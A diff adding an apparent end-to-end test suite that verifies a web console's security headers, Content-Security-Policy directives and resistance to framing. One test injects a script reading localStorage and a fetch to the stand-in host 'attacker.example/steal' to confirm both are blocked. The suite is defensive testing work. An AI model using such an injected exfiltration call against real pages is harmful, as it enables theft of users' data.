@@ -1,0 +1,95 @@
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { apiUrl, consoleUrl, launch, newPage, openPage, signedInPage, takeCspViolations } from './browser.ts';
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launch();
+});
+afterAll(async () => {
+  await browser?.close();
+});
+
+/** The policy as a map of directive name to its sources. */
+function directives(policy: string): Map<string, string[]> {
+  return new Map(
+    policy
+      .split(';')
+      .map((part) => part.trim().split(/\s+/))
+      .filter(([name]) => name)
+      .map(([name, ...sources]) => [name!, sources]),
+  );
+}
+
+describe('security headers', () => {
+  it.each(['/login', '/app/accounts', '/app/accounts/1/overview', '/app/user_profile', '/app/nowhere'])(
+    '%s sends a policy that allows only the console, its API and hashed inline scripts',
+    async (path) => {
+      const response = await fetch(`${consoleUrl()}${path}`);
+      expect(response.status).toBe(200);
+      const policy = directives(response.headers.get('content-security-policy') ?? '');
+      const api = new URL(apiUrl()).origin;
+      const scripts = policy.get('script-src') ?? [];
+      expect(scripts[0]).toBe("'self'");
+      expect(scripts.slice(1).every((source) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(source))).toBe(true);
+      expect(policy.get('style-src')?.some((source) => /unsafe/.test(source))).toBe(false);
+      expect(policy.get('connect-src')).toEqual(["'self'", api]);
+      // No ANALYTICS_SITE_URL in the suite: the API serves the embedded dashboard page.
+      expect(policy.get('frame-src')).toEqual([api]);
+      expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
+      expect(policy.get('object-src')).toEqual(["'none'"]);
+      expect(policy.get('base-uri')).toEqual(["'none'"]);
+      expect(policy.get('default-src')).toEqual(["'self'"]);
+      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
+      expect(response.headers.get('permissions-policy')).toContain('camera=()');
+    },
+  );
+
+  it('sends the headers on redirects too', async () => {
+    const response = await fetch(`${consoleUrl()}/`, { redirect: 'manual' });
+    expect(response.status).toBe(302);
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
+  });
+
+  it('refuses a script injected into a signed-in page, and calls to any other host', async () => {
+    const page = await signedInPage(browser);
+    await openPage(page, '/app/accounts');
+    await page.getByRole('heading', { name: 'Accounts', level: 1 }).waitFor();
+    const outcome = await page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__injected = localStorage.length';
+      document.head.append(script);
+      const call = await fetch('https://attacker.example/steal').then(
+        () => 'sent',
+        () => 'refused',
+      );
+      return { ran: '__injected' in window, call };
+    });
+    expect(outcome).toEqual({ ran: false, call: 'refused' });
+    // Both refusals are reported (and taken here, so the suite's check does not fail this test for them).
+    const reported: string[] = [];
+    await expect
+      .poll(() => reported.push(...takeCspViolations()) && reported.join('\n'))
+      .toMatch(/script-src[\s\S]*connect-src|connect-src[\s\S]*script-src/);
+    await page.waitForTimeout(200);
+    takeCspViolations();
+  });
+
+  it('cannot be framed by another site', async () => {
+    const page = await newPage(browser);
+    // A page on another origin (the API's) that frames the console's sign-in page.
+    await page.route(`${apiUrl()}/framing-test`, (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe src="${consoleUrl()}/login" title="console"></iframe>`,
+      }),
+    );
+    await page.goto(`${apiUrl()}/framing-test`);
+    const framed = () => page.frames().find((frame) => frame !== page.mainFrame());
+    // Chromium puts its error page in the frame instead of the console.
+    await expect.poll(() => framed()?.url()).toMatch(/^chrome-error:/);
+    expect(await framed()?.title()).not.toContain('Rescue Console');
+  });
+});
